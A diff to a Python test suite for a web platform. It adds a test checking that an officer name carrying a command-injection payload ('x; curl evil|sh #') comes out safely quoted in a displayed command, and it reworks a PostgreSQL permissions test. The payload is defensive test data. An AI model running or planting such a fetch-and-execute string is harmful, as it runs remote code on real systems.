@@ -17,10 +17,12 @@ from tests.rigs.logins import Logins, plain
 pytest.importorskip("flask_wtf")
 pytest.importorskip("babel")
 
+from examples.platform import town
 from examples.platform.web import office, store
 from examples.platform.web.maps import picture
 from tests.examples.platform.drafting import publish, write
 from tests.examples.platform.inside import AT_HOME, NEAR_BORDER, Town, opened
+from tests.examples.stacks.runtimes import EXAMPLES
 
 pytestmark = pytest.mark.stacks
 
@@ -195,16 +197,24 @@ def test_who_comes_second_is_told_that_somebody_was_faster(valmont: Town) -> Non
 
 
 @pytest.mark.slow
+def test_a_command_to_copy_runs_nothing_that_stands_in_a_name(valmont: Town) -> None:
+    name = "x; curl evil|sh #"
+    with valmont.engine.begin() as connection:
+        store.add_officer(connection, name, store.hashed(town.PASSWORD), store.REVIEWER)
+    check = valmont.answer("residence", NEAR_BORDER, "p-quoted")
+    assert f"review show {check} --answer --as '{name}'</code>" in valmont.browser(name).get(f"/en/reviews/{check}")
+
+
 def test_on_postgresql_the_office_needs_the_rights_that_stand_in_its_page(postgresql_url: str, tmp_path: Path) -> None:
     with Logins(postgresql_url) as logins:
         visitors, desk = logins.url("jurat_platform"), logins.url()
         names = {url: make_url(url).username for url in (visitors, desk)}
         owner = open_engine(postgresql_url)
+        store.make_tables(owner)
         with owner.begin() as connection:
-            store.metadata.create_all(connection)
-            for table in ("accounts", "consultations", "answers", "votes"):
-                rights = f"GRANT SELECT, INSERT, UPDATE, DELETE ON platform_{table} TO {names[visitors]}"
-                connection.exec_driver_sql(rights)
+            given = (EXAMPLES / "platform" / "rights.sql").read_text("utf-8")
+            for granted in re.findall(r"^(GRANT .*) TO web;$", given, re.MULTILINE):
+                connection.exec_driver_sql(f"{granted} TO {names[visitors]}")
             for granted in re.findall(r"^    (GRANT .*) TO office;$", office.__doc__ or "", re.MULTILINE):
                 connection.exec_driver_sql(f"{granted} TO {names[desk]}")
         owner.dispose()
